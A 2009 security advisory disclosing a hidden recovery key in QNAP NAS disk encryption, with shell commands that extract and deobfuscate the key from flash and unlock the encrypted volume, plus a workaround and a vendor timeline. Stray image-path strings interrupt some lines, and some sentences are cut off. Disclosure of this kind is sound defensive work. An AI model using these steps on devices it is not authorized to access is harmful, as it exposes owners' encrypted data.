QNAP Systems Encryption Bypass

Type packetstorm
Reporter Marc Heuse
Modified 2009-09-19T00:00:00


Title: Crypto backdoor in Qnap storage devices
Date: 18 September 2009
Vendor: QNAP Systems
Products (verified): TS-239 Pro, TS-639 Pro
Products (unverified): SS-439 Pro, TS-439 Pro,TS-439U-SP/RP,
TS-509 Pro, SS-839 Pro, TS-809 Pro, TS-809U-RP
Vulnerability: hard disk encryption bypass due recovery key
Affected Releases: 3.1.1 0815, 3.1.0 0627, 2.1.7 0613,
and presumably all other
Severity: Moderate/High
CVE: CVE-2009-3200
The premium and new line of QNAP network storage solutions allow
for full hard disk encryption. When rebooting, the user has to
unlock the hard disk by supplying the encryption passphrase via
the web GUI.
However, when the hard disk is encrypted, a secondary key is
created, added to the keyring, and stored in the flash with minor
The encrypted hard disk can be unlocked and potential sensitive
contents access by attackers who obtain physical or network
access to the hard disk and flash.
When a user selects in the web GUI to encrypt a harddrive, he
has to supply a passphrase of 8-16 length.
The Qnap solution is to use the underlying Linux standard
mechanisms of LUKS to create the encrypted partition.
The user supplied passphrase is crypt(3)'ed with the MD5 salt
of $1$YCCaQNAP$ and used as the initial key to access the LUKS
master key for the drive.
Additionally, the system creates a second key, which is 32
characters long and contains all low case characters and the
numbers 0-9, and adds it to the LUKS keyring:
/sbin/cryptsetup luksAddKey /dev/md0 /tmp/temp.wLbZNp \
Before writing the second key to the flash, the key is then
obfuscated in the following way:
the first six characters are reversed and written to the end
of the string.
The obfuscated string is then written to the flash (/dev/sdx6
on current Qnap storage devices) in the ENCK variable.
An attacker - or user who has lost his passphrase - just needs
to do the following:
1. Obtain the backdoor key from theflash:
# strings /dev/sdx6 | grep ENCK
It is possible that several ENCK keys show up.
2. The key has then to be deobfuscated. The last 6 characters have
to be taken, reversed, and put in front of the string:
ENCK key before: ghijklmnopqrstuvwxyz012345fedcba
ENCK key after:abcdefghijklmnopqrstuvwxyz012345
3. The key file has to be created:
# echo -n "abcdefghijklmnopqrstuvwxyz012345" > /tmp/key
4. The encrypted volume is unlocked and mounted. The device is
usually /dev/md0 or /dev/sda3.
# /sbin/cryptsetup luksOpen /dev/md0 md0 --key-file=/tmp/key
key slot 0 unlocked.
Command successful.
# mount /dev/mapper/md0 /share/MD0_DATA
Full access to the encrypted volume has been obtained.
Additional Weaknesses:
The backdoor key is generated by rand() calls. As the rand()function produces random numbers unsuitable for cryptographic
keys. The cryptographic strength of this generated key is
approx 2^32, hence feasible for breaking. This would make
access to the flash unnecessary.
The LUKS partition is created in AES-256 in plain CBC mode. This
mode is susceptible to watermark attacks.
No fix is available from the vendor yet and scheduled for the
following month.
The official company statement is:
"The security notice from Baseline Security was received by Qnap
on the 16th September 2009 and rated as important.
Currently, a new and enhanced firmware version is already in
testing. An update is planned for the following month"
As this was implemented on purpose by the vendor, and feedback
from the taiwanese development team was scarce, it was decided
to publish the information to put public pressure on the company
to ensure not only supplying a quick update, but also announcing
the issue properly so users see the need for installed the
coming imporant firmware update.
It was proposed to the vendor to remove the key from the keyring
as described in the workaround section.
Additionally the ENCK values in the flash should be overwritten.
Once a firmware update is available, it will be tested that it
removes the crypto backdoor.
Watch the advisory URL for updates:
There is no workaround available which can be used by a novice
The best solution is to remove the backdoor key from keyslot 0.
However this requires hashing the user passphrase. For this, a
Linux system has to be available, which has the "mkpasswd" command
installed (whois package).
# mkpasswd --hash=md5 --salt='YCCaQNAP'
and enter the password on the Password: prompt. Copy the outout.
On the Qnap device, create the keyfile with the password hash:
# echo -n "...the output of mkpasswd..." > /tmp/mykey
Now remove the backdoor key:
# /sbin/cryptsetup luksKillSlot /dev/md0 0 --key-file=/tmp/mykey
Remove allsensitive data, wipe the shell history, and logoff:
# echo "aaaaaaaaaaaaaaaaaaaaaaaaaaaa" > /tmp/mykey
# rm /tmp/mykey /tmp/key
# exit
As an additional measure, the flash can be edited and the saved
key overwritten (this requires the ipkg package installed).
Install a hex editor, run the hexeditor on the flash, and
overwrite ENCK values:
# ipkg install hexcurse
# hexcurse /dev/sdx6
(a hex editor window is loading)
Type Control-F, then 454e434b and hit Enter.
Use the cursor keys to the character string after the "ENCK="
string and then type in as many "A" characters, until the string
is full. Type Control-S to save, adn Control-Q to quit.
Please note that no liability is given whatsoever by anyone
if the workaround is used. It is recommended to be performed
by experienced users only.
Original Vendor FUD:
"The functionality for encryption the hard disk does not includea crypto backdoor."
(in response to a user question why two keyslots are allocated,
and if this is because of a backdoor)
Analysis performed thanks to the ultimate binary analysis tool
BinNavi by Zynamics, and the great - and free - IDA Pro
Dissassembler 4.9 by Datarescue.
Greets to the teams at Red Database Security, Recurity Labs,
THC and n.runs.
Vendor communication:
10 September 2009 Issue posted in the Qnap support forum
15 September 2009 Notification on crypto backdoor sent directly
to Qnap to force a response, giving 72 hours
to explain why the backdoor exists, when and
how it will be removed, and how this
information will be made available to the users.
15 September 2009 Qnap support contact confirms notification,
and informs of forwarding to support team
in Taiwan forclarification
16 September 2009 Phone cann from Qnap representive, stating
this issue is a high priority
18 September 2009 No statement from Qnap was given on why the
backdoor exists and if and when it will be
18 September 2009 This advisory is released
Baseline Security Consulting
The information provided is released "as is" without warranty of
any kind. The publisher disclaims all warranties, either express or
implied, including all warranties of merchantability.
No responsibility is taken for the correctness of this information.
In no event shall the publisher be liable for any damages whatsoever
including direct, indirect, incidental, consequential, loss of
business profits or special damages, even if the publisher has been
advised of the possibility of such damages.
The contents of this advisory is copyright (c) 2009 by Marc Heuseand may be distributed freely provided that no fee is charged for
the distribution and proper credit is given.
Marc Heuse
Mobil: +49 1779611560
Fax: +49 30 28097468
Baseline Security ConsultingChausseestr. 15
10115 Berlin
Ust.-Ident.-Nr.: DE244222388
PGP: D069 301E B401 828C 4E72 0BEA D9C9 6088 36F2 A05E